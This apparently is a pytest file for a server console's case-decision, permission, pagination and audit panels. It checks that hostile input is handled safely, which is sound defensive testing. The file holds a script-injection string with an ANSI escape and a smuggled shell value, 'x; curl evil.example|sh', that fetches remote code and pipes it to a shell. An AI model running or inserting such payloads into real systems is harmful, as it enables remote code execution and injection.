"""The work of a server in the console: what waits, who decides it, and what is recorded of it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tests.console import FIND, Mounted, code_of
from tests.service import AGENT, echo, make_endpoint
from tests.stateful import audited_backend, keeping

from bespeak.contract.policy import Policies
from bespeak.contract.standard.methods import choose_methods
from bespeak.documents.deployment.server_toml import ServerDocument
from bespeak.extensions.semantics.settings import SemanticSettings
from bespeak.protocol.exchange.principal import derived_id
from bespeak.runtime.extension import Extension
from bespeak.state.audit.record import payload_of
from bespeak.state.identity.credentials import make_key
from bespeak.state.identity.settings import AuthSettings
from bespeak.state.store.commands.agents import AddApiKey
from bespeak.state.store.commands.audit import LatestAudit
from bespeak.state.store.commands.cases import OpenCase, ReadCase, UseCase
from bespeak.state.store.settings import open_store
from bespeak.state.store.store import Store
from bespeak.terminal.panels import Panel, PanelRequest, Row, Table

__all__ = ["audited_backend"]
pytestmark = pytest.mark.anyio

HOSTILE = "<script>alert(1)</script>\u001b[31m"
SUBJECT = json.dumps({"method": "BOOK", "path": "/room", "input": {"guest": HOSTILE}})
ESCALATED = json.dumps({"task_id": "task-7", "reason": "ethical_flag", "context": {}})
ANN = derived_id("ann")


async def open_cases(store: Store) -> None:
    await store.do(
        OpenCase("conf-1", "confirmation", AGENT, "operator", "d1", SUBJECT, lifetime=600.0, parties=(AGENT, "eve"))
    )
    await store.do(OpenCase("esc-1", "escalation", AGENT, "desk", "d2", ESCALATED))


async def records(store: Store) -> list[dict[str, Any]]:
    found = (payload_of(row[-1]) or {} for row in await store.read(LatestAudit(100)))
    return [one for one in found if one.get("method") == "CONFIRM"]


async def test_cases_are_listed_and_shown_with_what_was_asked() -> None:
    async with keeping() as kept:
        await open_cases(kept.store)
        console = Mounted(bench=kept.bench)
        [table] = await console.panel("cases")
        assert [(row["key"], row["cells"][0], row["state"]) for row in table["rows"]] == [
            ("conf-1", "BOOK /room", "pending"),
            ("esc-1", "task task-7, ethical_flag", "pending"),
        ]
        assert table["actions"]["accept"]["command"] == "bespeak cases accept KEY --by NAME"
        facts, request = await console.panel("cases", key="conf-1")
        assert (facts["facts"]["state"], facts["facts"]["behind it"]) == ("pending", "eve")
        assert "<script>" in request["text"]
        assert "\u001b" not in request["text"]
        assert code_of(await console.ask("api/panel?name=cases&key=nothing")) == (404, "not-found")


async def test_an_accepted_case_is_decided_and_recorded_once() -> None:
    async with keeping() as kept:
        await open_cases(kept.store)
        console = Mounted(bench=kept.bench)
        reply = await console.act("cases", "accept", "conf-1", by="ann", reason="agreed by phone")
        assert [row["key"] for row in reply.json()["blocks"][0]["rows"]] == ["esc-1"]
        case = await kept.store.read(ReadCase("conf-1"))
        assert (case.state, case.decided_by, case.reason) == ("accepted", "operator:ann", "agreed by phone")
        assert code_of(await console.act("cases", "reject", "conf-1", by="bob")) == (409, "already-decided")
        assert len(await records(kept.store)) == int(kept.bench.server.audited)
        if kept.bench.server.audited:
            [record] = await records(kept.store)
            assert record["extra"]["input"]["decided_by"] == "ann"
        assert (await kept.store.do(UseCase("conf-1", "d1", AGENT)))[0].state == "executed"


async def test_whoever_is_behind_a_request_does_not_decide_it() -> None:
    async with keeping() as kept:
        await open_cases(kept.store)
        console = Mounted(bench=kept.bench)
        for name in ("Eve", " eve ", "\uff25ve", AGENT):
            assert code_of(await console.act("cases", "accept", "conf-1", by=name)) == (403, "own-case")
        assert (await kept.store.read(ReadCase("conf-1"))).state == "pending"
        assert await records(kept.store) == []


async def test_a_decision_needs_a_name_a_known_action_and_texts_that_can_be_shown() -> None:
    async with keeping() as kept:
        await open_cases(kept.store)
        console = Mounted(bench=kept.bench)
        assert code_of(await console.act("cases", "accept", "conf-1", by="")) == (400, "invalid-arguments")
        assert code_of(await console.act("cases", "accept", "conf-1", reason="\u202e")) == (400, "invalid-arguments")
        assert code_of(await console.act("cases", "forget", "conf-1")) == (404, "action-not-found")
        assert code_of(await console.act("nothing", "accept", "conf-1")) == (404, "panel-not-found")
        assert code_of(await console.act("cases", "accept", "conf-9")) == (404, "not-found")
        for body in ({"name": "cases"}, {"name": 1, "action": "accept", "key": "x"}):
            assert code_of(await console.ask("api/panel", method="POST", json=body)) == (400, "invalid-arguments")
        for after in ("[[", "[0.0]", '["x", "y"]', '[0.0, "\\u0000"]', '[1e400, ""]'):
            reply = await console.ask("api/panel", params={"name": "cases", "after": after})
            assert code_of(reply) == (400, "invalid-arguments"), after
        assert code_of(await console.ask("api/panel?name=cases&key=%00")) == (400, "invalid-arguments")
        if kept.bench.server.audited:
            reply = await console.ask("api/panel", params={"name": "audit", "after": f"[{10**30}]"})
            assert code_of(reply) == (400, "invalid-arguments")
        assert code_of(await console.ask("api/panel?name=nothing")) == (404, "panel-not-found")


async def credential(store: Store, agent_id: str, scopes: str) -> str:
    made = make_key()
    await store.do(AddApiKey(made.key_id, made.digest, agent_id, "ann", scopes, "", None))
    return made.text


async def test_with_credentials_the_caller_decides_if_its_scopes_say_so() -> None:
    document = ServerDocument(auth=AuthSettings(modes=("key",)))
    async with keeping(document=document) as kept:
        await open_cases(kept.store)
        reads = Mounted(bench=kept.bench, credential=await credential(kept.store, ANN, "console:read"))
        [table] = await reads.panel("cases")
        assert (list(table["actions"]), table["rows"][0]["actions"]) == (["show"], ["show"])
        assert (await reads.ask("api/session")).json()["can"] == ["read"]
        assert code_of(await reads.act("cases", "accept", "conf-1")) == (403, "console-scope-missing")
        acts = Mounted(bench=kept.bench, credential=await credential(kept.store, ANN, "console:read, console:act"))
        [table] = await acts.panel("cases")
        assert [one["name"] for one in table["actions"]["accept"]["fields"]] == ["reason"]
        assert (await acts.ask("api/session")).json()["can"] == ["read", "act"]
        assert (await acts.act("cases", "accept", "conf-1", by="somebody else")).status_code == 200
        case = await kept.store.read(ReadCase("conf-1"))
        assert case.decided_by == f"operator:{ANN}"
        assert ANN in json.loads(case.decided_parties)
        own = await credential(kept.store, AGENT, "console:*")
        refused = await Mounted(bench=kept.bench, credential=own).act("cases", "accept", "esc-1")
        assert code_of(refused) == (403, "own-case")
        for name, text in (("no credential", ""), ("a wrong one", "Bearer bsk_x")):
            headers = {"Authorization": text} if text else {}
            reply = await acts.ask("api/panel?name=cases", token=False, headers=headers)
            assert reply.status_code in (401, 403), name


async def test_long_lists_have_pages() -> None:
    async with keeping() as kept:
        for number in range(203):
            await kept.store.do(OpenCase(f"esc-{number:03}", "escalation", AGENT, "desk", f"d{number}", ESCALATED))
        console = Mounted(bench=kept.bench)
        [first] = await console.panel("cases")
        [second] = await console.panel("cases", after=first["next"])
        keys = [row["key"] for row in (*first["rows"], *second["rows"])]
        assert (len(first["rows"]), keys) == (200, sorted(set(keys)))
        assert len(keys) == 203
        assert "next" not in second


async def test_the_audit_trail_is_shown_and_verified_where_there_is_one() -> None:
    echoing = make_endpoint("FIND", "/rooms", echo, impact="reversible")
    async with keeping(echoing, policies=Policies(scope_required_for_invocation=False)) as kept:
        await kept.send("FIND", "/rooms", {})
        console = Mounted(bench=kept.bench)
        blocks = await console.panel("audit")
        if not kept.bench.server.audited:
            assert blocks[0]["facts"]["recording"].startswith("off")
            return
        [row] = blocks[0]["rows"]
        assert row["cells"][1:3] == [200, "FIND /rooms"]
        [text] = await console.panel("audit", key=row["key"])
        assert json.loads(text["text"])["path"] == "/rooms"
        facts, faults = await console.panel("audit", key="trail")
        assert (facts["facts"]["result"], facts["facts"]["records"], faults["rows"]) == ("no faults", 1, [])
        assert code_of(await console.ask("api/panel?name=audit&key=nothing")) == (404, "not-found")


async def test_agents_and_their_grants_are_listed_without_their_keys() -> None:
    async with keeping() as kept:
        agents, grants = await Mounted(bench=kept.bench).panel("agents")
        assert (agents["rows"], grants["rows"]) == ([], [])


async def test_an_extension_brings_its_own_panel_and_its_texts_are_data() -> None:
    async def show(request: PanelRequest) -> list[Table]:
        return [Table("Parcels", ("What",), [Row("1", [HOSTILE])])]

    parcels = Extension(name="parcels", panels=(Panel(name="parcels", title="Parcels", show=show),))
    async with keeping(extensions=(parcels,)) as kept:
        console = Mounted(bench=kept.bench)
        session = (await console.ask("api/session")).json()
        assert {"name": "parcels", "title": "Parcels"} in session["panels"]
        reply = await console.ask("api/panel?name=parcels")
        assert reply.headers["content-type"].startswith("application/json")
        assert reply.json()["blocks"][0]["rows"][0]["cells"] == [HOSTILE]


async def test_without_a_store_there_are_no_panels() -> None:
    session = (await Mounted().ask("api/session")).json()
    assert (session["panels"], session["can"]) == ([], ["read", "act"])


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.process)])
def place(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "postgres":
        return str(request.getfixturevalue("postgres_store"))
    return str(tmp_path / "store.db")


async def test_every_panel_and_its_next_page_are_read_from_both_stores(place: str) -> None:
    store = open_store(place)
    fields: dict[str, Any] = {"methods": choose_methods(("*",)), "semantic": SemanticSettings()}
    policies = Policies(scope_required_for_invocation=False, synthesis_enabled=True)
    cursors = {"agents": '["",""]', "audit": "[99]", "payments": "[99]", "meaning": "[0]", "deliveries": ""}
    try:
        async with keeping(FIND, store=store, policies=policies, **fields) as kept:
            await open_cases(store)
            console = Mounted(bench=kept.bench)
            names = [one["name"] for one in (await console.ask("api/session")).json()["panels"]]
            kernel, brought = ["cases", "agents", "audit"], ["meaning", "payments", "proposals", "deliveries"]
            assert names == [*kernel, *brought, "queues", "workflows"]
            for name in names:
                blocks = await console.panel(name)
                assert all({"kind", "title"} <= block.keys() for block in blocks)
                after = cursors.get(name, '[0.0,""]')
                assert await console.panel(name, after=after) == blocks, name
            [table] = await console.panel("queues", key="x; curl evil.example|sh")
            assert table["command"] == "bespeak queues show 'x; curl evil.example|sh'"
            assert (await console.act("cases", "reject", "esc-1")).status_code == 200
            assert code_of(await console.act("workflows", "pause", "x")) == (404, "not-found")
            assert code_of(await console.act("proposals", "approve", "x")) == (404, "not-found")
            assert code_of(await console.act("queues", "retry", "x")) == (404, "not-found")
    finally:
        await store.close()
